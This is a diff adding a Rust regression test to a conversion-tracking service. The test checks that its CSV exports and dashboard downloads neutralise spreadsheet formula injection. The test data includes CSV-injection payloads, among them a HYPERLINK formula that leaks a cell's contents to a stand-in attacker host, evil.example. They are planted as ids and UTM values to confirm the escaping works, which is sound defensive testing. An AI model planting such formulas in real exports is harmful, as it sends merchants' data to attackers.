@@ -1,6 +1,7 @@
 //! Getting data out: `convapi export` (CSV that round-trips against the order status lookup,
-//! NDJSON, sessions, day ranges, errors, and flat memory over 100,000 conversions), `convapi
-//! backup` under a concurrent load of conversions, and the database and WAL sizes on `/metrics`.
+//! NDJSON, sessions, day ranges, errors, and flat memory over 100,000 conversions), formulas
+//! neutralised in every CSV (the export's and the dashboard's downloads), `convapi backup` under a
+//! concurrent load of conversions, and the database and WAL sizes on `/metrics`.
 
 use std::io::Read;
 use std::process::{Command, Stdio};
@@ -202,6 +203,118 @@ fn orders_with_awkward_ids(app: &TestApp) -> Vec<String> {
         await_status(app, id, "processed");
     }
     ids
+}
+
+/// Cells a spreadsheet reads as formulas (OWASP "CSV Injection"), each planted below as an order
+/// id, a visitor id, a client id and UTM values; the last two start with a tab and a CR.
+const FORMULAS: [&str; 6] = [
+    "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")",
+    "=1+1",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=2+2",
+    "\r=3+3",
+];
+
+/// A cell that starts as a formula would: only a number of ours (a count, an amount) may.
+fn formula_like(cell: &str) -> bool {
+    let digits = cell.strip_prefix('-').unwrap_or(cell);
+    let (int, frac) = digits.split_once('.').unwrap_or((digits, "0"));
+    let number = !int.is_empty()
+        && !frac.is_empty()
+        && int.bytes().chain(frac.bytes()).all(|b| b.is_ascii_digit());
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !number
+}
+
+/// Regression: the tracker id is public, so anyone could plant formulas as ids and UTM
+/// values, and every CSV download wrote them as live formulas (`=HYPERLINK(...)` leaking the row
+/// to evil.example when the merchant clicks it). Each text cell starting like a formula now gets a
+/// leading `'`, in the one CSV writer.
+#[test]
+fn csv_formula_injection_is_neutralised_in_every_csv() {
+    let app = TestApp::start();
+    let ts = now_ms() - HOUR;
+    for (i, f) in FORMULAS.iter().enumerate() {
+        let enc: String = form_urlencoded::byte_serialize(f.as_bytes()).collect();
+        let url =
+            format!("https://shop.example/?utm_source={enc}&utm_medium={enc}&utm_campaign={enc}");
+        app.pixel(
+            f,
+            json!([
+                {"type": "pageview", "url": url, "ts": ts + i as i64},
+                {"type": "identify", "userId": f, "ts": ts + i as i64},
+                {"type": "purchase", "orderId": f, "value": 10, "currency": "EUR", "ts": ts + i as i64},
+            ]),
+        );
+        app.post_conversion(&json!({
+            "orderId": format!("{f} api"), "clientId": f, "visitorId": f,
+            "value": 20, "currency": "EUR", "occurredAt": iso(ts + i as i64),
+        }))
+        .accepted();
+    }
+    for f in FORMULAS {
+        await_status(&app, f, "processed");
+        await_status(&app, &format!("{f} api"), "processed");
+    }
+    create_user(
+        &app,
+        &app.tenant.id,
+        "owner@shop.example",
+        "a long enough password",
+    );
+    let d = DashClient::logged_in(&app, "owner@shop.example", "a long enough password");
+    let base = format!("/dashboard/sites/{}", app.site.id);
+    let fetch = |path: &str| {
+        let r = d.get(path);
+        assert_eq!(r.status, 200, "{path}: {}", r.text());
+        r.text()
+    };
+    let export = |extra: &[&str]| {
+        let mut args = vec!["export", "--site", &app.site.id, "--format", "csv"];
+        args.extend_from_slice(extra);
+        let run = app.cli(&args);
+        assert_eq!(run.code, 0, "{}", run.stderr);
+        run.stdout
+    };
+    // What each CSV must show neutralised: the ids as sent, the report's keys as attribution
+    // trimmed them.
+    let ids: Vec<String> = FORMULAS.iter().map(|f| format!("'{f}")).collect();
+    let keys: Vec<String> = FORMULAS.iter().map(|f| format!("'{}", f.trim())).collect();
+    let csvs = [
+        (
+            "the dashboard's conversions.csv",
+            fetch(&format!("{base}/conversions.csv")),
+            &ids,
+        ),
+        ("convapi export", export(&[]), &ids),
+        ("convapi export --sessions", export(&["--sessions"]), &ids),
+        (
+            "report.csv by source",
+            fetch(&format!("{base}/report.csv?by=source")),
+            &keys,
+        ),
+        (
+            "report.csv by medium",
+            fetch(&format!("{base}/report.csv?by=medium")),
+            &keys,
+        ),
+        (
+            "report.csv by campaign",
+            fetch(&format!("{base}/report.csv?by=campaign")),
+            &keys,
+        ),
+    ];
+    for (what, text, expected) in csvs {
+        let cells: Vec<String> = parse_csv(&text).into_iter().flatten().collect();
+        let live: Vec<&String> = cells.iter().filter(|c| formula_like(c)).collect();
+        assert!(
+            live.is_empty(),
+            "{what} has formula cells {live:?}:\n{text}"
+        );
+        for e in expected.iter() {
+            assert!(cells.contains(e), "{what} lacks {e:?}:\n{text}");
+        }
+    }
 }
 
 #[test]
